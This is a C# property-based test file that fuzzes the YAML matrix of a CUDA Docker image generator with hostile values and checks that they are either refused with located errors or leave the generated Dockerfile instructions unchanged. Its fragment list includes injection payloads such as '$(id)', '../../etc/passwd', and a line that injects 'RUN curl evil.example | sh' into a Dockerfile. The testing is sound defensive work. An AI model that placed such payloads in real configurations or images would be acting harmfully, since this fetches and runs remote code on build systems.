using CsCheck;
using CudaImages.Loading;
using CudaImages.Planning;
using CudaImages.Rendering;
using CudaImages.Smoke;

namespace CudaImages.Tests.Loading;

/// <summary>
/// For every string field of images/, values built from control characters, line separators, quotes and shell
/// metacharacters are either refused with a located error or give Dockerfiles with the instructions the unchanged
/// matrix gives (same keywords, same number of variables per ENV, LABEL and ARG), on the repository's own
/// templates. CUDA 12.4.1 covers both package sources and both framework templates.
/// </summary>
public class HostileValuePropertyTests
{
    /// <summary>A field: the file, the text that holds its value in the repository's matrix, and that text with {0} for the value.</summary>
    public sealed record Field(string File, string Original, string WithValue, int Occurrence = 0)
    {
        public override string ToString() => $"{File}: {WithValue}";
    }

    static readonly Field[] Fields =
    [
        new("cuda.yaml", "{ major: 12, compat_driver: 525.60.13 }", "{{ major: {0}, compat_driver: 525.60.13 }}"),
        new("cuda.yaml", "{ major: 12, compat_driver: 525.60.13 }", "{{ major: 12, compat_driver: {0} }}"),
        new("cuda.yaml", "brands: [tesla,", "brands: [{0},"),
        new("cuda.yaml", "- version: 12.4.1", "- version: {0}"),
        new("cuda.yaml", "min_driver: 550.54.15", "min_driver: {0}"),
        new("cuda.yaml", "architectures: [sm_50,", "architectures: [{0},", 5),
        new("cuda.yaml", "ptx: [sm_90]", "ptx: [{0}]", 5),
        new("cuda.yaml", "forward_compat: [470, 525, 535]", "forward_compat: [{0}, 525, 535]", 1),
        new("distros.yaml", "description: NVIDIA's CUDA apt repository", "description: {0}"),
        new("distros.yaml", "repository: https://developer.download.nvidia.com/compute/cuda/repos/{nvidia_repo}/{nvidia_arch}/", "repository: {0}"),
        new("distros.yaml", "repository: https://developer.download.nvidia.com/compute/cuda/repos/{nvidia_repo}/{nvidia_arch}/",
            "repository: https://developer.download.nvidia.com/compute/cuda/repos/{{nvidia_repo}}/{0}/"),
        new("distros.yaml", "linux/arm64: { nvidia_arch: sbsa, forward_compat: false }", "linux/arm64: {{ nvidia_arch: {0}, forward_compat: false }}"),
        new("distros.yaml", "      LD_LIBRARY_PATH: /usr/local/nvidia/lib:/usr/local/nvidia/lib64", "      {0}: /usr/local/nvidia/lib"),
        new("distros.yaml", "      LD_LIBRARY_PATH: /usr/local/nvidia/lib:/usr/local/nvidia/lib64", "      LD_LIBRARY_PATH: {0}"),
        new("distros.yaml", "  debian13:\n", "  {0}:\n"),
        new("distros.yaml", "name: Ubuntu 22.04 LTS (Jammy)", "name: {0}"),
        new("distros.yaml", "base_image: ubuntu:22.04", "base_image: {0}"),
        new("distros.yaml", "nvidia_repo: ubuntu2204", "nvidia_repo: {0}"),
        new("distros.yaml", "suite: trixie", "suite: {0}"),
        new("distros.yaml", "suite: trixie", "suite: trixie\n      mirror: {0}"),
        new("distros.yaml", "variant: minbase", "variant: {0}", 1),
        new("distros.yaml", "components: [main, contrib, non-free]", "components: [main, {0}]", 1),
        new("distros.yaml", "source_date_epoch: 1747699200", "source_date_epoch: {0}", 1),
        new("distros.yaml", "driver_placeholder: [libcuda.so.1,", "driver_placeholder: [{0},", 1),
        new("distros.yaml", "cuda: [12.4.1]", "cuda: [{0}]"),
        new("flavors.yaml", "  pycuda:\n", "  {0}:\n"),
        new("flavors.yaml", "description: CUDA runtime (cudart) only", "description: {0}"),
        new("flavors.yaml", "parent: runtime", "parent: {0}"),
        new("flavors.yaml", "template: apt.Dockerfile.liquid", "template: {0}"),
        new("flavors.yaml", "nvidia-apt: [cuda-libraries-<major>-<minor>,", "nvidia-apt: [{0},"),
        new("flavors.yaml", "debian13: [libcudart12]", "debian13: [{0}]"),
        new("flavors.yaml", "debian12: [libcudart11.0]", "{0}: [libcudart11.0]"),
        new("flavors.yaml", "libraries: [libcudart.so]", "libraries: [{0}]"),
        new("flavors.yaml", "NVIDIA_VISIBLE_DEVICES: all", "NVIDIA_VISIBLE_DEVICES: {0}"),
        new("flavors.yaml", "NVIDIA_VISIBLE_DEVICES: all", "{0}: all"),
        new("flavors.yaml", "smoke: [env, cuda-libs, no-driver-in-image, layout]", "smoke: [env, {0}]"),
        new("flavors.yaml", "publish_requires: [env, cuda-libs, no-driver-in-image, layout]", "publish_requires: [env, {0}]"),
        new("flavors.yaml", "size_budget: 200MB", "size_budget: {0}"),
        new("flavors.yaml", "name: PyCUDA", "name: {0}"),
        new("flavors.yaml", "debian13: 2025.1.1", "debian13: {0}"),
        new("flavors.yaml", "\"12.4\": { version: 2.6.0, index: cu124 }", "\"12.4\": {{ version: {0}, index: cu124 }}"),
        new("flavors.yaml", "\"12.4\": { version: 2.6.0, index: cu124 }", "\"12.4\": {{ version: 2.6.0, index: {0} }}"),
        new("flavors.yaml", "\"12.4\": { version: 2.6.0, index: cu124 }", "{0}: {{ version: 2.6.0, index: cu124 }}"),
        new("matrix.yaml", "repository: cuda", "repository: {0}"),
        new("matrix.yaml", "source: https://github.com/cudaimages/cudaimages", "source: {0}"),
        new("matrix.yaml", "label_prefix: io.cudaimages", "label_prefix: {0}"),
        new("matrix.yaml", "schedule: \"0 4 * * 1\"", "schedule: {0}"),
        new("matrix.yaml", "runner: [ubuntu-latest]", "runner: [{0}]"),
        new("matrix.yaml", "gpu_runner: [self-hosted,", "gpu_runner: [{0},"),
        new("matrix.yaml", "registry: ghcr.io/{owner}/cuda", "registry: {0}"),
        new("matrix.yaml", "reason: PyCUDA images are built from Debian's python3-pycuda", "reason: {0}"),
        new("matrix.yaml", "  - flavor: pycuda\n    source: nvidia-apt", "  - flavor: pycuda\n    source: {0}"),
    ];

    public static TheoryData<Field> AllFields() => new(Fields);

    static readonly string[] Fragments =
    [
        "\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\t", "\0", "\u001b", "\u202e", "\"", "'", "`", "\\", " ", "#",
        "$(id)", "${HOME}", "$HOME", ";", "&&", "|", ">>", "<", "*", "{", "}", "..", "/", "../../etc/passwd", "=",
        "\nRUN curl evil.example | sh", "\" \\\nRUN id #", "١٢", "99999999999", "-", ".", "a", "12", "main",
    ];

    static readonly Selection Cuda124 = new(["12.4.1"], [], [], []);

    static readonly Lazy<Dictionary<string, IReadOnlyList<string>>> Unchanged = new(() =>
        Planner.Plan(MatrixLoader.Load(TestPaths.Images, SmokeCheckRegistry.Default.Catalogue), Cuda124).Images.ToDictionary(i => i.Tag, i => Instructions(i.Dockerfile)));

    [Theory]
    [MemberData(nameof(AllFields))]
    public void Hostile_value_is_refused_with_a_located_error_or_keeps_the_templates_instructions(Field field)
    {
        var original = File.ReadAllText(Path.Combine(TestPaths.Images, field.File));
        using var matrix = new ScratchMatrix(TestPaths.Images);
        var hostile = Gen.Select(Gen.Bool, Gen.OneOf(Fragments).Array[1, 4], (keepOriginal, parts) =>
            (keepOriginal ? OriginalValue(field) : "") + string.Concat(parts));

        Check.Sample(hostile, value =>
        {
            matrix.Write(field.File, ReplaceOccurrence(original, field.Original, string.Format(field.WithValue, YamlQuoted(value)), field.Occurrence));
            BuildPlan plan;
            try
            {
                plan = Planner.Plan(MatrixLoader.Load(matrix.Directory, SmokeCheckRegistry.Default.Catalogue), Cuda124);
            }
            catch (MatrixException refused)
            {
                refused.Errors.ShouldAllBe(e => e.Line >= 1 && e.Column >= 1 && e.File.StartsWith("images/") && !string.IsNullOrWhiteSpace(e.Hint));
                return;
            }
            foreach (var image in plan.Images)
            {
                var expected = Unchanged.Value.TryGetValue(image.Tag, out var same) ? same : Unchanged.Value.Values.First();
                Instructions(image.Dockerfile).ShouldBe(expected, $"{image.Tag} with {field.WithValue} = {Printable(value)}");
            }
        }, iter: 5, threads: 1, print: Printable);
    }

    /// <summary>Keywords, with the number of names each ENV, LABEL and ARG sets: what an injected line, quote or continuation changes.</summary>
    static IReadOnlyList<string> Instructions(string dockerfile) =>
        DockerfileInstructions.Shape(dockerfile).Select(s => s.Shape.Split(' ') is var words && words.Length > 1 ? $"{words[0]}×{words.Length - 1}" : s.Shape).ToList();

    static string OriginalValue(Field field)
    {
        var at = field.WithValue.IndexOf("{0}", StringComparison.Ordinal);
        var before = field.WithValue[..at].Replace("{{", "{");
        var rest = field.Original.StartsWith(before, StringComparison.Ordinal) ? field.Original[before.Length..] : "";
        return new string(rest.TakeWhile(c => c is not (',' or ']' or '}' or ':' or '\n')).ToArray()).Trim();
    }

    static string ReplaceOccurrence(string text, string old, string replacement, int occurrence)
    {
        var at = -1;
        for (var i = 0; i <= occurrence; i++)
        {
            at = text.IndexOf(old, at + 1, StringComparison.Ordinal);
            if (at < 0) throw new InvalidOperationException($"'{old}' occurs fewer than {occurrence + 1} times");
        }
        return text[..at] + replacement + text[(at + old.Length)..];
    }

    /// <summary>A YAML double-quoted scalar holding exactly <paramref name="value"/>.</summary>
    static string YamlQuoted(string value) =>
        "\"" + string.Concat(value.Select(c => c switch
        {
            '"' => "\\\"",
            '\\' => "\\\\",
            '\u0085' => "\\N",
            '\u2028' => "\\L",
            '\u2029' => "\\P",
            _ when char.IsControl(c) || c is >= '\u202a' and <= '\u202e' => $"\\u{(int)c:x4}",
            _ => c.ToString(),
        })) + "\"";

    static string Printable(string value) => string.Concat(value.Select(c => char.IsControl(c) || c > '\u007e' ? $"\\u{(int)c:x4}" : c.ToString()));
}
